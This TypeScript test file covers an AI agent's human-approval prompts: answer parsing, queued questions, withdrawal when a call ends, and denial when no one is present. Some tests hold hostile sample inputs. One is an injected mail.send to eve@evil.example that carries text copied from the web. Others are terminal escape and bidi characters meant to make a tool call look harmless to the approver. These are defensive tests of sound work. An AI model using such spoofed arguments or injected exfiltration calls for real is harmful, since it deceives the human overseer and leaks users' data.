// Questions to a person: their order, how they end, and output shown in the meantime.
import { expect, test } from 'vitest'
import type { Person } from './conversation.ts'
import { readDecision } from './conversation.ts'
import { createQuestions } from './questions.ts'
import { createScreen } from './screen.ts'

/** A person who answers when the test says so. */
function createPerson() {
  const asked: { readonly question: string; readonly answer: (said: string) => void }[] = []
  const person: Person = {
    next: () => Promise.resolve(undefined),
    close: () => {},
    ask: (question, signal) =>
      new Promise((resolve, reject) => {
        signal.addEventListener('abort', () => reject(new Error('nobody answered')))
        asked.push({ question, answer: resolve })
      }),
  }
  return { person, asked }
}

function createAsking(person: Person) {
  const notes: string[] = []
  const screen = createScreen({
    writeText: () => {},
    writeNote: (text) => void notes.push(text.trimEnd()),
    color: false,
  })
  return { questions: createQuestions(person, screen), notes }
}

const call = (callId: string) => ({ callId, name: 'look', arguments: '{"where":"here","deep":{"a":1}}' })
const settled = () => new Promise((resolve) => void setImmediate(resolve))

test('a person who decides sees the name and every argument', async () => {
  const { person, asked } = createPerson()
  const { questions, notes } = createAsking(person)
  const answer = questions.approval(call('a'))
  await settled()
  asked[0]?.answer('maybe')
  await settled()
  asked[1]?.answer(' Yes ')
  expect(await answer).toBe('approve')
  expect(notes).toEqual(['look asks for your approval:', '  where: "here"', '  deep: {"a":1}'])
  expect(asked.map(({ question }) => question)).toEqual(['run it? y/n/always: ', 'run it? y/n/always: '])
})

test('a person asked by a policy sees the reason, the words of strangers, and the scope of the approval', async () => {
  const { person, asked } = createPerson()
  const { questions, notes } = createAsking(person)
  const answer = questions.approval({
    callId: 'a',
    name: 'mail.send',
    arguments: '{"to":["eve@evil.example\\u001b[2J"],"n":1}',
    asked: {
      message: 'The model has read text from outside\u202e',
      destination: 'eve@evil.example',
      untrusted: ['web'],
      copied: [
        { path: '/to/0', from: 0, to: 20, tool: 'web' },
        { path: '/gone/0', from: 0, to: 2, tool: 'web' },
      ],
    },
  })
  await settled()
  asked[0]?.answer('always')
  await settled()
  asked[1]?.answer('n')
  expect(await answer).toBe('deny')
  expect(asked.map(({ question }) => question)).toEqual(['run it? y/n: ', 'run it? y/n: '])
  expect(notes.slice(3)).toEqual([
    'The model has read text from outside\\u202e',
    'to/0 contains text from web: "eve@evil.example\\u001b[2J"',
    'Your approval also covers later calls of this tool to eve@evil.example.',
  ])
})

test('an approval for one call promises nothing about later ones', async () => {
  const { person, asked } = createPerson()
  const { questions, notes } = createAsking(person)
  const answer = questions.approval({ ...call('a'), asked: { message: 'Read a page', destination: 'bob', each: true } })
  await settled()
  asked[0]?.answer('y')
  expect(await answer).toBe('approve')
  expect(notes.at(-1)).toBe('Read a page')
})

test('a second question waits for the first answer and for what became of it', async () => {
  const { person, asked } = createPerson()
  const { questions } = createAsking(person)
  const first = questions.result(call('a'))
  const second = questions.result(call('b'))
  await settled()
  expect(asked).toHaveLength(1)
  asked[0]?.answer('red')
  expect(await first).toBe('red')
  questions.settle('a')
  await settled()
  asked[1]?.answer('/fail it  rains')
  await expect(second).rejects.toThrow('it  rains')
})

test('events during an open question are shown after it', async () => {
  const { person, asked } = createPerson()
  const { questions } = createAsking(person)
  const order: string[] = []
  const answer = questions.result(call('a'))
  await settled()
  questions.whenQuiet(() => order.push('shown'))
  order.push('asked')
  asked[0]?.answer('red')
  await answer
  questions.whenQuiet(() => order.push('at once'))
  expect(order).toEqual(['asked', 'shown', 'at once'])
})

test('a call that ends takes its question back', async () => {
  const { person } = createPerson()
  const { questions } = createAsking(person)
  const result = questions.result(call('a'))
  const approval = questions.approval(call('b'))
  result.catch(() => {})
  await settled()
  await questions.settleAll()
  await expect(result).rejects.toThrow('the call has ended')
  expect(await approval).toBeUndefined()
})

test('a call that ends withdraws all its questions, including queued ones', async () => {
  const { person, asked } = createPerson()
  const { questions } = createAsking(person)
  const ask = (questionId: string) =>
    questions.question({ callId: 'a', questionId, message: 'Which?', schema: { type: 'string' } } as never)
  const all = Promise.all([ask('q1'), ask('q2'), ask('q3')])
  await settled()
  questions.settle('a')
  expect(await all).toEqual([undefined, undefined, undefined])
  expect(asked.length).toBe(1)
})

test('with no one to ask, an approval is denied, a question declined, and a client tool fails', async () => {
  const { questions, notes } = createAsking({ next: () => Promise.resolve(undefined), close: () => {} })
  await expect(questions.result(call('a'))).rejects.toThrow(
    'this tool must be run by an app or a person, and neither is available',
  )
  expect(await questions.approval(call('a'))).toBe('nobody')
  expect(readDecision('nobody')).toEqual({
    decision: 'deny',
    reason: 'it needs an approval, and the command has no terminal to ask for one',
  })
  const asked = { callId: 'a', questionId: 'q', message: 'Which size?', schema: { type: 'object' } }
  expect(await questions.question(asked as never)).toEqual({
    questionId: 'q',
    decline: true,
    reason: 'the command declined because there is no one to ask',
  })
  expect(notes).toEqual([
    'look needs an approval and was denied, because there is no one to ask; approvalPolicy of the agent can allow it, and in a chat a line /approve always before the message',
    "a tool's question was declined, because there is no one to ask",
  ])
})

test('a call cannot look like another one, whatever its name and its arguments hold', async () => {
  const { person, asked } = createPerson()
  const { questions, notes } = createAsking(person)
  const tricky = { a: 'ls\r\u001b[2K', 'x\nsafe: "yes"\u202e': 1, [`c\u009b2J`]: '\u2028' }
  const answer = questions.approval({ callId: 'a', name: 'put\u001b[1A', arguments: JSON.stringify(tricky) })
  await settled()
  asked[0]?.answer('n')
  expect(await answer).toBe('deny')
  expect(notes).toEqual([
    'put\\u001b[1A asks for your approval:',
    '  a: "ls\\r\\u001b[2K"',
    '  x\\nsafe: "yes"\\u202e: 1',
    '  c\\u009b2J: "\\u2028"',
  ])
})
